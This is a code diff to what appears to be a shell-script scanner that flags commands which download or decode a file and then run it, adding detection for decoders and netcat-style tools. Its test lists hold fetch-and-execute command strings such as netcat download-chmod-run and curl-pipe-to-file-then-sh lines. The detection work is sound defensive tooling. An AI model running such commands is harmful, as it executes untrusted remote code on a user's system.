@@ -33,6 +33,8 @@ MATCHES = (
     "git clone http://h/x && cd x && make",
     "curl -Lo ~/.local/bin/x http://h/x && chmod +x ~/.local/bin/x",
     "curl h | dd of=a; sh a",
+    "base64 -d x > y && chmod +x y && ./y",
+    "nc h 99 > a && chmod +x a && ./a",
 )
 IGNORES = (
     "curl -O http://h/a.tgz && tar xf a.tgz",
@@ -47,10 +49,16 @@ IGNORES = (
 _RUNNERS = names(
     """
     bash sh zsh dash source . python python3 perl ruby node php sudo env nohup exec doas fish ksh java dpkg rpm
-    installer msiexec wine insmod setsid timeout
+    installer msiexec wine insmod setsid timeout go bun deno uv ts-node tsx ansible-playbook psql mysql sqlite3 crontab
+    make kubectl docker podman apt apt-get dnf yum zypper apk pacman pip pip3 gdb lua Rscript pwsh rpm-ostree
     """
 )
 
+_DECODERS = names(
+    """
+    base64 base32 basenc xxd uudecode openssl gpg gpg2 rev ccrypt age
+    """
+)
 _INSTALLERS = frozenset({"pip", "pip3", "pipx", "npm", "pnpm", "uv", "cargo", "gem", "go", "brew"})
 _PREFIXES = names(
     """
@@ -63,6 +71,7 @@ _COMMANDS = late_pattern(r"(?:/usr(?:/local)?|/opt/\w+|~|\$HOME|~/\.local|\$HOME
 def inspect(script: Script) -> Iterator[Finding]:
     fetched: set[str] = set()
     clones: set[str] = set()
+    decoded: set[str] = set()
     inside = False
     fetches_now = False
     for item in script.items:
@@ -78,7 +87,7 @@ def inspect(script: Script) -> Iterator[Finding]:
                 yield danger(Reason.NETWORK_EXEC, "runs what it has just fetched", first)
             if (program in ("git", "hg", "gh", "glab") and "clone" in node.shapes) or (
                 program in ("svn", "cvs", "darcs", "bzr")
-                and node.shapes[:1] in (("co",), ("checkout",), ("get",), ("branch",))
+                and node.shapes[:1] in (("co",), ("checkout",), ("get",), ("branch",), ("export",))
             ):
                 clones |= {_name(shape).removesuffix(".git") for shape in node.shapes[1:] if not shape.startswith("-")}
             if program in ("cd", "pushd"):
@@ -104,6 +113,8 @@ def inspect(script: Script) -> Iterator[Finding]:
             if program in ("scp", "rsync", "aws", "gsutil", "rclone", "sftp", "smbclient"):
                 remote = [shape for shape in node.shapes if re.match(r"[\w.@-]+:(?!/$)", shape)]
                 fetched |= {_name(shape.rpartition(":")[2]) for shape in remote}
+            if program in ("nc", "ncat", "netcat", "socat", "telnet", "openssl", "ssh", "iwr", "irm"):
+                fetches_now = True
             if program in ("curl", "wget", "aria2c", "fetch", "axel", "http", "wget2"):
                 fetches_now = True
                 fetched |= {_name(re.split(r"[?#]", shape)[0]) for shape in node.shapes if "/" in shape}
@@ -120,14 +131,15 @@ def inspect(script: Script) -> Iterator[Finding]:
             if fetches_now and program in ("tar", "unzip", "bsdtar", "cpio", "7z") and given is not item.commands[0]:
                 inside = True  # what was unpacked is named by the archive
                 clones.add(".")
+            redirected = [item.target for item in node.redirections if item.target is not None and item.writes_file]
             if fetches_now:
-                fetched |= {
-                    _name(entry.target.shape)
-                    for entry in node.redirections
-                    if entry.target is not None and entry.writes_file
-                }
+                fetched |= {_name(word.shape) for word in redirected}
                 fetched |= names if program in ("tee", "sponge") else set()
                 fetched |= {_name(shape[3:]) for shape in node.shapes if program == "dd" and shape.startswith("of=")}
+            if program in _DECODERS:
+                decoded |= {_name(word.shape) for word in redirected}
+            elif decoded and ((program in _RUNNERS and names & decoded) or ("/" in first and _name(first) in decoded)):
+                yield danger(Reason.INDIRECT, "runs what it has just decoded", first)
     fetched.discard("")
 
 
